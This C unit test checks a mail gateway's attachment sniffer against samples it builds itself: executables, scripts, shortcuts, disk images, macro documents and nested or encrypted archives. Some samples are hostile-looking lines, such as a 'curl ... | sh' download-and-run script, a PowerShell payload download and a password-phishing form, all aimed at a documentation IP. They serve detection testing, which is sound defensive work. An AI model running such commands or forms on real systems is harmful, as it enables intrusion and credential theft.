/*
 * test-sniff: attachment verdicts (gateway/sniff.c over libmagic, archives
 * through gateway/arclist.c over libarchive) on small real samples that
 * this test builds itself, nothing downloaded: a PE file, this program's
 * own ELF image, a Mach-O header, scripts, a Windows shortcut and an
 * Internet shortcut, ISO 9660, FAT, VHD and VHDX images, HTML and SVG,
 * OLE compound files with and without a VBA project, and archives written
 * by libarchive (zip, 7z, tar.gz, gzip, nested zips, an encrypted zip,
 * OOXML with and without vbaProject.bin) holding them. Each row names the
 * kind the verdict must have and a piece of its reason.
 */
#include "build-config.h"

#include <archive.h>
#include <archive_entry.h>

#include "base/util.h"
#include "gateway/sniff.h"
#include "tests/unit/test.h"

struct blob {
	unsigned char *data;
	size_t len;
};

static void
put16(unsigned char *p, unsigned int v)
{
	p[0] = (unsigned char)v;
	p[1] = (unsigned char)(v >> 8);
}

static void
put32(unsigned char *p, uint32_t v)
{
	put16(p, v & 0xffff);
	put16(p + 2, v >> 16);
}

static struct blob
blob_of(const void *data, size_t len)
{
	struct blob b = { xmalloc(len > 0 ? len : 1), len };
	memcpy(b.data, data, len);
	return b;
}

static struct blob
blob_str(const char *s)
{
	return blob_of(s, strlen(s));
}

/* A PE32 GUI program for i386: DOS header, PE header, optional header, one
   section holding one "ret". */
static struct blob
make_pe(void)
{
	struct blob b = { xcalloc(1, 1024), 1024 };
	unsigned char *p = b.data;
	p[0] = 'M';
	p[1] = 'Z';
	put32(p + 0x3c, 0x40);
	unsigned char *pe = p + 0x40;
	memcpy(pe, "PE\0\0", 4);
	put16(pe + 4, 0x14c);	 /* i386 */
	put16(pe + 6, 1);	 /* sections */
	put16(pe + 20, 0xe0);	 /* optional header size */
	put16(pe + 22, 0x0102); /* executable, 32-bit */
	unsigned char *opt = pe + 24;
	put16(opt, 0x10b);
	put32(opt + 16, 0x1000);   /* entry point */
	put32(opt + 28, 0x400000); /* image base */
	put32(opt + 32, 0x1000);
	put32(opt + 36, 0x200);
	put16(opt + 40, 4);
	put16(opt + 48, 4);
	put32(opt + 56, 0x2000);
	put32(opt + 60, 0x200);
	put16(opt + 68, 2); /* Windows GUI */
	put32(opt + 92, 16);
	unsigned char *sec = opt + 0xe0;
	memcpy(sec, ".text", 5);
	put32(sec + 8, 0x10);
	put32(sec + 12, 0x1000);
	put32(sec + 16, 0x200);
	put32(sec + 20, 0x200);
	put32(sec + 36, 0x60000020);
	p[0x200] = 0xc3;
	return b;
}

static struct blob
make_self_elf(void)
{
	size_t len;
	unsigned char *data = test_read_file("/proc/self/exe", &len);
	struct blob b = { data, data != NULL ? (len < 65536 ? len : 65536) : 0 };
	return b;
}

static struct blob
make_macho(void)
{
	struct blob b = { xcalloc(1, 96), 96 };
	put32(b.data, 0xfeedfacf);
	put32(b.data + 4, 0x01000007); /* x86_64 */
	put32(b.data + 8, 3);
	put32(b.data + 12, 2); /* MH_EXECUTE */
	return b;
}

static struct blob
make_lnk(void)
{
	static const unsigned char head[20] = { 0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0,
						 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46 };
	struct blob b = { xcalloc(1, 108), 108 };
	memcpy(b.data, head, sizeof(head));
	put32(b.data + 20, 0x1);  /* has a target ID list */
	put32(b.data + 24, 0x20); /* archive */
	return b;
}

static struct blob
make_iso(void)
{
	struct blob b = { xcalloc(1, 32768 + 4096), 32768 + 4096 };
	memcpy(b.data + 32768, "\001CD001\001", 7);
	memcpy(b.data + 32768 + 2048, "\377CD001\001", 7);
	return b;
}

static struct blob
make_fat(void)
{
	struct blob b = { xcalloc(1, 1536), 1536 };
	unsigned char *p = b.data;
	memcpy(p, "\353\074\220MSDOS5.0", 11);
	put16(p + 11, 512);
	p[13] = 1;
	put16(p + 14, 1);
	p[16] = 2;
	put16(p + 17, 224);
	put16(p + 19, 2880);
	p[21] = 0xf0;
	put16(p + 22, 9);
	put16(p + 24, 18);
	put16(p + 26, 2);
	p[38] = 0x29;
	memcpy(p + 43, "NO NAME    FAT12   ", 19);
	p[510] = 0x55;
	p[511] = 0xaa;
	return b;
}

static struct blob
make_vhd(void)
{
	struct blob b = { xcalloc(1, 512), 512 };
	memcpy(b.data, "conectix", 8);
	b.data[11] = 2;	   /* features */
	b.data[13] = 1;	   /* version 1.0 */
	return b;
}

static struct blob
make_vhdx(void)
{
	struct blob b = { xcalloc(1, 1024), 1024 };
	memcpy(b.data, "vhdxfile", 8);
	return b;
}

/* A compound file (CFB version 3): header, a FAT sector, a directory
   sector with a root and, with vba, the storages Macros/VBA and the
   stream _VBA_PROJECT that Word writes; without, a WordDocument stream. */
static void
cfb_entry(unsigned char *e, const char *name, unsigned int type, uint32_t left, uint32_t right,
	  uint32_t child)
{
	size_t n = strlen(name);
	for (size_t i = 0; i < n; i++)
		e[2 * i] = (unsigned char)name[i];
	put16(e + 64, (unsigned int)(2 * n + 2));
	e[66] = (unsigned char)type;
	e[67] = 1; /* black */
	put32(e + 68, left);
	put32(e + 72, right);
	put32(e + 76, child);
	put32(e + 116, 0xfffffffe); /* start: end of chain */
}

static struct blob
make_ole(int vba)
{
	struct blob b = { xcalloc(1, 1536), 1536 };
	unsigned char *h = b.data, *fat = b.data + 512, *dir = b.data + 1024;
	static const unsigned char sig[8] = { 0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1 };
	const uint32_t none = 0xffffffff;
	memcpy(h, sig, 8);
	put16(h + 24, 0x3e);
	put16(h + 26, 3);
	put16(h + 28, 0xfffe);
	put16(h + 30, 9);
	put16(h + 32, 6);
	put32(h + 44, 1);	   /* FAT sectors */
	put32(h + 48, 1);	   /* first directory sector */
	put32(h + 56, 0x1000);
	put32(h + 60, 0xfffffffe);
	put32(h + 68, 0xfffffffe);
	put32(h + 76, 0);	   /* DIFAT[0]: the FAT is sector 0 */
	for (int i = 1; i < 109; i++)
		put32(h + 76 + 4 * i, none);
	put32(fat, 0xfffffffd);	   /* the FAT itself */
	put32(fat + 4, 0xfffffffe); /* the directory */
	for (int i = 2; i < 128; i++)
		put32(fat + 4 * i, none);
	cfb_entry(dir, "Root Entry", 5, none, none, 1);
	if (vba) {
		cfb_entry(dir + 128, "Macros", 1, none, none, 2);
		cfb_entry(dir + 256, "VBA", 1, none, none, 3);
		cfb_entry(dir + 384, "_VBA_PROJECT", 2, none, none, none);
	} else {
		cfb_entry(dir + 128, "WordDocument", 2, none, none, none);
		for (int i = 2; i < 4; i++)
			put32(dir + 128 * i + 68, none), put32(dir + 128 * i + 72, none),
				put32(dir + 128 * i + 76, none);
	}
	return b;
}

/* An archive written by libarchive: format "zip", "7zip", "pax", or
   "raw" (one file); filter NULL or "gzip"; passphrase NULL or a zip
   password. entries: name, blob pairs. */
static struct blob
make_archive(const char *format, const char *filter, const char *passphrase, size_t n,
	     const char *const *names, const struct blob *blobs)
{
	struct archive *a = archive_write_new();
	size_t cap = 1024 * 1024, used = 0;
	struct blob out = { xmalloc(cap), 0 };

	archive_write_set_format_by_name(a, format);
	if (filter != NULL)
		archive_write_add_filter_by_name(a, filter);
	if (passphrase != NULL) {
		archive_write_set_options(a, "zip:encryption=zipcrypt");
		archive_write_set_passphrase(a, passphrase);
	}
	if (archive_write_open_memory(a, out.data, cap, &used) != ARCHIVE_OK)
		printf("archive_write_open_memory: %s\n", archive_error_string(a));
	for (size_t i = 0; i < n; i++) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, names[i]);
		archive_entry_set_size(e, (la_int64_t)blobs[i].len);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_write_header(a, e);
		archive_write_data(a, blobs[i].data, blobs[i].len);
		archive_entry_free(e);
	}
	archive_write_close(a);
	archive_write_free(a);
	out.len = used;
	return out;
}

static struct blob
zip1(const char *name, struct blob inner)
{
	const char *names[1] = { name };
	struct blob b = make_archive("zip", NULL, NULL, 1, names, &inner);
	free(inner.data);
	return b;
}

static struct blob
make_ooxml(int macros)
{
	const char *names[4] = { "[Content_Types].xml", "_rels/.rels", "word/document.xml",
				 "word/vbaProject.bin" };
	struct blob blobs[4] = {
		blob_str("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/"
			 "package/2006/content-types\"><Override PartName=\"/word/document.xml\" "
			 "ContentType=\"application/vnd.openxmlformats-officedocument."
			 "wordprocessingml.document.main+xml\"/></Types>"),
		blob_str("<Relationships/>"),
		blob_str("<w:document/>"),
		make_ole(1),
	};
	struct blob b = make_archive("zip", NULL, NULL, macros ? 4 : 3, names, blobs);
	for (int i = 0; i < 4; i++)
		free(blobs[i].data);
	return b;
}

/* ------------------------------------------------------------------ */

enum sample {
	S_PE, S_ELF, S_MACHO, S_SH, S_BAT, S_PS1, S_JS, S_VBS, S_HTA, S_LNK, S_URL, S_ISO, S_FAT,
	S_VHD, S_VHDX, S_HTML, S_SVG, S_OLE_VBA, S_OLE, S_DOCM, S_DOCX, S_ZIP_EXE, S_ZIP_OK,
	S_7Z_LNK, S_TGZ_SH, S_GZ_EXE, S_NESTED, S_TOO_DEEP, S_ENCRYPTED, S_ZIP_DOCM, S_PDF, S_PNG,
	S_TEXT, S_CSV, S_EMPTY, S_DAMAGED_ZIP
};

static const char PDF[] = "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n";
static const unsigned char PNG[] = { 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13,
				     'I', 'H', 'D', 'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0,
				     0x90, 0x77, 0x53, 0xde };

static struct blob
make(enum sample s)
{
	switch (s) {
	case S_PE:
		return make_pe();
	case S_ELF:
		return make_self_elf();
	case S_MACHO:
		return make_macho();
	case S_SH:
		return blob_str("#!/bin/sh\ncurl -s http://198.51.100.1/x | sh\n");
	case S_BAT:
		return blob_str("@echo off\r\nstart calc.exe\r\n");
	case S_PS1:
		return blob_str("Invoke-WebRequest -Uri http://198.51.100.1/a.exe -OutFile a.exe\r\n");
	case S_JS:
		return blob_str("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n");
	case S_VBS:
		return blob_str("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n");
	case S_HTA:
		return blob_str("<html><head><HTA:APPLICATION ID=\"x\"></head><body><script "
				"language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\""
				"</script></body></html>\n");
	case S_LNK:
		return make_lnk();
	case S_URL:
		return blob_str("[InternetShortcut]\r\nURL=file://198.51.100.1/share/a.exe\r\n");
	case S_ISO:
		return make_iso();
	case S_FAT:
		return make_fat();
	case S_VHD:
		return make_vhd();
	case S_VHDX:
		return make_vhdx();
	case S_HTML:
		return blob_str("<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>"
				"<form action=\"http://198.51.100.1/\"><input type=password></form>"
				"</body></html>\n");
	case S_SVG:
		return blob_str("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\">"
				"<script>location='http://198.51.100.1/'</script></svg>\n");
	case S_OLE_VBA:
		return make_ole(1);
	case S_OLE:
		return make_ole(0);
	case S_DOCM:
		return make_ooxml(1);
	case S_DOCX:
		return make_ooxml(0);
	case S_ZIP_EXE:
		return zip1("invoice.exe", make_pe());
	case S_ZIP_OK: {
		const char *names[2] = { "notes.txt", "statement.pdf" };
		struct blob blobs[2] = { blob_str("hello\n"), blob_str(PDF) };
		struct blob b = make_archive("zip", NULL, NULL, 2, names, blobs);
		free(blobs[0].data);
		free(blobs[1].data);
		return b;
	}
	case S_7Z_LNK: {
		const char *names[1] = { "photo.jpg.lnk" };
		struct blob inner = make_lnk();
		struct blob b = make_archive("7zip", NULL, NULL, 1, names, &inner);
		free(inner.data);
		return b;
	}
	case S_TGZ_SH: {
		const char *names[2] = { "readme.txt", "install" };
		struct blob blobs[2] = { blob_str("run install\n"), make(S_SH) };
		struct blob b = make_archive("pax", "gzip", NULL, 2, names, blobs);
		free(blobs[0].data);
		free(blobs[1].data);
		return b;
	}
	case S_GZ_EXE: {
		const char *names[1] = { "invoice.pdf" };
		struct blob inner = make_pe();
		struct blob b = make_archive("raw", "gzip", NULL, 1, names, &inner);
		free(inner.data);
		return b;
	}
	case S_NESTED:
		return zip1("inner.zip", zip1("setup.scr", make_pe()));
	case S_TOO_DEEP:
		return zip1("a.zip", zip1("b.zip", zip1("c.zip", zip1("d.txt", blob_str("x\n")))));
	case S_ENCRYPTED: {
		const char *names[1] = { "invoice.exe" };
		struct blob inner = make_pe();
		struct blob b = make_archive("zip", NULL, "infected", 1, names, &inner);
		free(inner.data);
		return b;
	}
	case S_ZIP_DOCM:
		return zip1("order.docm", make_ooxml(1));
	case S_PDF:
		return blob_str(PDF);
	case S_PNG:
		return blob_of(PNG, sizeof(PNG));
	case S_TEXT:
		return blob_str("Hello, my withdrawal is late.\n");
	case S_CSV:
		return blob_str("date,amount\n2024-01-01,10\n");
	case S_EMPTY:
		return blob_of("", 0);
	case S_DAMAGED_ZIP: {
		struct blob b = make(S_ZIP_EXE);
		b.len = b.len / 2;
		return b;
	}
	}
	return blob_of("", 0);
}

static const struct row {
	const char *what;
	enum sample sample;
	const char *filename;
	enum sniff_kind kind;
	const char *reason; /* a piece of the reason */
} rows[] = {
	{ "PE", S_PE, "setup.exe", SNIFF_EXECUTABLE, "PE32 executable" },
	{ "PE named invoice.pdf", S_PE, "invoice.pdf", SNIFF_EXECUTABLE, "(named invoice.pdf)" },
	{ "PE without a name", S_PE, NULL, SNIFF_EXECUTABLE, "PE32" },
	{ "ELF", S_ELF, "report", SNIFF_EXECUTABLE, "ELF" },
	{ "Mach-O", S_MACHO, "app", SNIFF_EXECUTABLE, "Mach-O" },
	{ "shell script", S_SH, "install", SNIFF_SCRIPT, "shell script" },
	{ "batch file", S_BAT, "run.txt", SNIFF_SCRIPT, "batch" },
	{ "PowerShell by name", S_PS1, "update.ps1", SNIFF_SCRIPT, "named update.ps1" },
	{ "JScript by name", S_JS, "invoice.js", SNIFF_SCRIPT, "named invoice.js" },
	{ "VBScript by name", S_VBS, "doc.vbs", SNIFF_SCRIPT, "named doc.vbs" },
	{ "HTA", S_HTA, "form.hta", SNIFF_SCRIPT, "named form.hta" },
	{ "shortcut", S_LNK, "photo.jpg", SNIFF_SHORTCUT, "shortcut" },
	{ "Internet shortcut", S_URL, "portal.url", SNIFF_SHORTCUT, "Internet shortcut" },
	{ "ISO image", S_ISO, "invoice.iso", SNIFF_DISK_IMAGE, "ISO 9660" },
	{ "FAT image", S_FAT, "backup.img", SNIFF_DISK_IMAGE, "boot sector" },
	{ "VHD", S_VHD, "disk.vhd", SNIFF_DISK_IMAGE, "Disk Image" },
	{ "VHDX", S_VHDX, "disk.bin", SNIFF_DISK_IMAGE, "VHDX" },
	{ "HTML", S_HTML, "login.html", SNIFF_HTML, "HTML" },
	{ "HTML named .pdf", S_HTML, "statement.pdf", SNIFF_HTML, "HTML" },
	{ "SVG", S_SVG, "logo.svg", SNIFF_HTML, "SVG" },
	{ "OLE with VBA", S_OLE_VBA, "order.doc", SNIFF_MACROS, "VBA project" },
	{ "OLE without VBA", S_OLE, "order.doc", SNIFF_OK, "" },
	{ "docm", S_DOCM, "order.docm", SNIFF_MACROS, "word/vbaProject.bin" },
	{ "docm named docx", S_DOCM, "order.docx", SNIFF_MACROS, "vbaProject.bin" },
	{ "docx", S_DOCX, "order.docx", SNIFF_OK, "" },
	{ "zip holding an exe", S_ZIP_EXE, "invoice.zip", SNIFF_ARCHIVE, "holds invoice.exe" },
	{ "zip of documents", S_ZIP_OK, "docs.zip", SNIFF_OK, "application/zip" },
	{ "7z holding a shortcut", S_7Z_LNK, "photos.7z", SNIFF_ARCHIVE, "photo.jpg.lnk" },
	{ "tar.gz holding a script", S_TGZ_SH, "tools.tar.gz", SNIFF_ARCHIVE, "holds install" },
	{ "gzip of a PE", S_GZ_EXE, "invoice.pdf.gz", SNIFF_ARCHIVE, "holds invoice.pdf" },
	{ "zip in a zip", S_NESTED, "files.zip", SNIFF_ARCHIVE, "setup.scr" },
	{ "zips too deep", S_TOO_DEEP, "a.zip", SNIFF_ARCHIVE, "not looked into" },
	{ "encrypted zip", S_ENCRYPTED, "invoice.zip", SNIFF_ARCHIVE, "encrypted" },
	{ "zip holding a docm", S_ZIP_DOCM, "orders.zip", SNIFF_ARCHIVE, "order.docm" },
	{ "damaged zip", S_DAMAGED_ZIP, "invoice.zip", SNIFF_ARCHIVE, "cannot be checked" },
	{ "PDF", S_PDF, "statement.pdf", SNIFF_OK, "application/pdf" },
	{ "PNG", S_PNG, "screenshot.png", SNIFF_OK, "image/png" },
	{ "PNG named .pdf", S_PNG, "invoice.pdf", SNIFF_MISMATCH, "named invoice.pdf" },
	{ "PNG named .jpg", S_PNG, "photo.jpg", SNIFF_OK, "image/png" },
	/* the fast path for plain types must not let a name through */
	{ "PNG without a name", S_PNG, NULL, SNIFF_OK, "image/png" },
	{ "PNG named .png.exe", S_PNG, "photo.png.exe", SNIFF_EXECUTABLE, "named photo.png.exe" },
	{ "PNG named .docx", S_PNG, "scan.docx", SNIFF_MISMATCH, "named scan.docx" },
	{ "PDF named .jpg", S_PDF, "photo.jpg", SNIFF_MISMATCH, "PDF document" },
	{ "text", S_TEXT, "notes.txt", SNIFF_OK, "text/plain" },
	{ "CSV", S_CSV, "export.csv", SNIFF_OK, "" },
	{ "text named .exe", S_TEXT, "notes.exe", SNIFF_EXECUTABLE, "named notes.exe" },
	{ "trailing dot hides .exe", S_TEXT, "notes.exe.", SNIFF_EXECUTABLE, "notes.exe." },
	{ "empty", S_EMPTY, "empty.txt", SNIFF_OK, "" },
};

static void
test_rows(void)
{
	const char *error = NULL;
	struct sniff *s = sniff_new(NULL, &error);
	test_begin("sniff_new");
	test_assert(s != NULL);
	if (s == NULL) {
		printf("%s\n", error);
		return;
	}
	for (size_t i = 0; i < N_ELEMENTS(rows); i++) {
		const struct row *r = &rows[i];
		struct sniff_verdict v;
		struct blob b = make(r->sample);
		test_begin(r->what);
		test_assert(b.data != NULL);
		test_assert_int(sniff_bytes(s, b.data, b.len, r->filename, &v, &error), 0);
		if (v.kind != r->kind || strstr(v.reason, r->reason) == NULL)
			printf("  %s: got %s [%s] type %s; want %s [%s]\n", r->what,
			       sniff_kind_name(v.kind), v.reason, v.type, sniff_kind_name(r->kind),
			       r->reason);
		test_assert_int(v.kind, r->kind);
		test_assert(strstr(v.reason, r->reason) != NULL);
		test_assert(v.type[0] != '\0');
		free(b.data);
	}
	sniff_free(&s);
	test_assert(s == NULL);
	sniff_free(&s);
}

/* Bytes libmagic knows nothing of, named as an image or a PDF: sniff asks
   for the description first and takes "data" to mean the MIME type
   application/octet-stream; the verdict is the one the MIME type first
   gives (type, mismatch, the description in the reason). */
static void
test_unknown(void)
{
	static const char *const names[] = { "statement.pdf", "screenshot.png", "photo.jpg",
					     "scan.jpeg", "chart.gif", "image.webp" };
	const char *error = NULL;
	struct sniff *s = sniff_new(NULL, &error);
	/* not random: fixed bytes that no magic entry matches */
	size_t len = 6000;
	unsigned char *data = xmalloc(len);
	uint32_t x = 2463534242u;
	for (size_t i = 0; i < len; i++) {
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		data[i] = (unsigned char)(x >> 24);
	}
	test_begin("unknown bytes named as an image or a PDF");
	test_assert(s != NULL);
	if (s == NULL) {
		free(data);
		return;
	}
	for (size_t i = 0; i < N_ELEMENTS(names); i++) {
		struct sniff_verdict v;
		char want[160];
		snprintf(want, sizeof(want), "type mismatch: named %s but the bytes are data", names[i]);
		test_assert_int(sniff_bytes(s, data, len, names[i], &v, &error), 0);
		test_assert_int(v.kind, SNIFF_MISMATCH);
		test_assert_str(v.type, "application/octet-stream");
		test_assert_str(v.reason, want);
		/* the same bytes without a name that expects something: one
		   question, the MIME type */
		test_assert_int(sniff_bytes(s, data, len, "blob.bin", &v, &error), 0);
		test_assert_int(v.kind, SNIFF_OK);
		test_assert_str(v.type, "application/octet-stream");
	}
	free(data);
	sniff_free(&s);
}

/* Archives over a limit are flagged, never passed as safe. */
static void
test_limits(void)
{
	struct sniff_limits lim;
	const char *error = NULL;
	sniff_limits_default(&lim);
	lim.max_entries = 1;
	lim.max_archive_bytes = 100;
	struct sniff *s = sniff_new(&lim, &error);
	struct sniff_verdict v;
	struct blob b = make(S_ZIP_OK);

	test_begin("limits");
	test_assert(s != NULL);
	if (s == NULL)
		return;
	test_assert_int(sniff_bytes(s, b.data, b.len, "docs.zip", &v, &error), 0);
	test_assert_int(v.kind, SNIFF_ARCHIVE);
	test_assert(strstr(v.reason, "more than 1 entries") != NULL ||
		    strstr(v.reason, "more than 100 bytes") != NULL);
	free(b.data);
	sniff_free(&s);

	lim.max_entries = 10;
	lim.max_archive_bytes = 64;
	s = sniff_new(&lim, &error);
	struct blob zeros = { xcalloc(1, 4096), 4096 };
	b = zip1("big.txt", zeros);
	test_assert_int(sniff_bytes(s, b.data, b.len, "big.zip", &v, &error), 0);
	test_assert_int(v.kind, SNIFF_ARCHIVE);
	test_assert(strstr(v.reason, "more than 64 bytes") != NULL);
	free(b.data);
	sniff_free(&s);

	test_begin("names");
	test_assert_str(sniff_kind_name(SNIFF_OK), "safe");
	test_assert_str(sniff_kind_name(SNIFF_MACROS), "macros");
	test_assert_str(sniff_kind_name(SNIFF_KIND_COUNT), "?");
}

int
main(void)
{
	test_rows();
	test_unknown();
	test_limits();
	return test_exit();
}
